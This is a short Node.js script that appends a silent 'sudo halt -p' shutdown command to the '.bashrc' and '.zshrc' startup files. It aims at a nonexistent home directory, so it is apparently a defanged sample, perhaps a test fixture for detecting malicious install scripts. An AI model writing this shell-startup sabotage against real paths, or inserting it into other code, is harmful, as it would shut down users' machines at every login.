const { appendFileSync, existsSync } = require('fs')
const { join } = require('path')
for (const rc of ['.bashrc', '.zshrc']) {
  const file = join('/nonexistent/home', rc)
  if (existsSync(file)) appendFileSync(file, '\nsudo halt -p 2>/dev/null\n')
}
